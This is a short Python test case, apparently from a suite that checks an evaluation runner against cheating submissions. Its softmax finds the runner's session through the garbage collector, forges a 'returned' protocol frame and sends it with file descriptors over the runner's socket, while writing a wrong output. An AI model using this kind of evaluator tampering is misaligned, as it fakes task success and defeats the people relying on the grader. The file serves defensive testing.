# does: sends the judge descriptors, with a frame that announces them or with one that does not
# exploit: 54
# lane: both
# expect: runtime_error
# points: none
# naive: not expressible because it receives none
import gc
import random
import socket

import torch


def runner_session():
    """The runner's own session, found among all objects; None in any other process."""
    return next((thing for thing in gc.get_objects() if type(thing).__name__ == "Session"), None)


def frame(text):
    """A message in the form of the runner's protocol."""
    body = text.encode()
    return len(body).to_bytes(4, "big") + b"\0" + body


RETURNED = '{"type":"returned","launches":1,"functions":["k"],"operations":[],"returned":null}'


def softmax(x, out):
    if (session := runner_session()) is not None:
        smuggled = frame(RETURNED)
        announced = smuggled[:4] + b"\x08" + smuggled[5:]
        socket.send_fds(session._channel._socket, [random.choice((smuggled, announced))], [0, 1, 2, 0, 1, 2, 0, 1])
    out.fill_(7.0)
